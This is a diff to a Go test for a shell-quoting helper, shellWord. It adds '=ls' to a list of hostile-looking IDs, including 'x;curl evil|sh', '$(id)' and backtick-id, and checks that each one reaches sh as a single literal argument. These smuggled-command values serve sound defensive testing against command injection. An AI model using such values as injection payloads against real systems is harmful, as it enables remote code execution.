@@ -40,7 +40,7 @@ func TestShellWordIsOneArgument(t *testing.T) {
 	if err != nil {
 		t.Skip("no sh")
 	}
-	for _, id := range []string{"sess-1", "x;curl evil|sh", "a'b", "$(id)", "`id`", "a b", "", "''", `\'`, "key_abc", "*"} {
+	for _, id := range []string{"sess-1", "x;curl evil|sh", "a'b", "$(id)", "`id`", "a b", "", "''", `\'`, "key_abc", "*", "=ls"} {
 		out, err := exec.Command(sh, "-c", "printf '[%s]' "+shellWord(id)).Output()
 		if err != nil || string(out) != "["+id+"]" {
 			t.Errorf("shellWord(%q) = %s: the shell read %q (%v)", id, shellWord(id), out, err)
@@ -48,5 +48,10 @@ func TestShellWordIsOneArgument(t *testing.T) {
 	}
 	if got := shellWord("sess-1"); got != "sess-1" {
 		t.Errorf("a plain id is quoted: %s", got)
+	}
+	// zsh reads "=ls" as the path of ls; sh cannot show it, so the
+	// quoting is held directly.
+	if got := shellWord("=ls"); got != "'=ls'" {
+		t.Errorf("shellWord(=ls) = %s, want it quoted", got)
 	}
 }
